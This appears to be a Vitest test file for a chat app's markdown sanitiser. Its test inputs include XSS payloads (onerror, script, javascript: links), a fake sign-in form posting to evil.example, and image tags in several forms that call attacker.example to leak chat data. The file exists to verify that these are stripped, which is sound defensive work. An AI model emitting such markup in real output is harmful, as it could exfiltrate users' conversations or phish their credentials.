// @vitest-environment jsdom
// DOMPurify is checked under jsdom, whose HTML parsing follows the standard closely
// enough for a sanitiser test (happy-dom's does not).
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../src/lib/markdown'

describe('markdown', () => {
  it('renders Markdown with highlighted code', () => {
    const html = renderMarkdown('**bold** and `x`\n\n```python\nprint("hi")\n```')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('<code>x</code>')
    expect(html).toMatch(/<span class="hljs-string">"hi"<\/span>/)
  })

  it('removes what a model or a page could inject', () => {
    const html = renderMarkdown('<img src=x onerror="alert(1)"><script>alert(2)</script>[a](javascript:alert(3))')
    expect(html).not.toMatch(/onerror|<script|javascript:/)
  })

  it('drops forms and styles that could pose as the app', () => {
    const html = renderMarkdown('<form action="https://evil.example"><input name=p><button>Sign in</button></form><p style="position:fixed">x</p>')
    expect(html).not.toMatch(/<form|<input|<button|style=/)
    expect(html).toContain('<p>x</p>')
  })

  it('loads no image from another origin (a way to leak the chat)', () => {
    const html = renderMarkdown('![secret](https://attacker.example/p.png?d=x) ![own](/api/v1/x.png)')
    expect(html).not.toContain('attacker.example')
    expect(html).toContain('alt="secret"')
    expect(html).toContain('src="/api/v1/x.png"')
    for (const sneaky of [
      '<img src="/x.png" srcset="https://attacker.example/a.png 2x">',
      '<picture><source srcset="https://attacker.example/b.png"><img src="/x.png"></picture>',
      '<video poster="https://attacker.example/c.png"></video>',
      '<svg><image href="https://attacker.example/d.png"></image></svg>',
      '<table background="https://attacker.example/e.png"><tr><td>x</td></tr></table>',
    ]) {
      expect(renderMarkdown(sneaky), sneaky).not.toContain('attacker.example')
    }
  })

  it('opens links in a new tab without giving it this window', () => {
    const html = renderMarkdown('[docs](https://example.org)')
    expect(html).toContain('target="_blank"')
    expect(html).toContain('rel="noopener noreferrer"')
  })
})
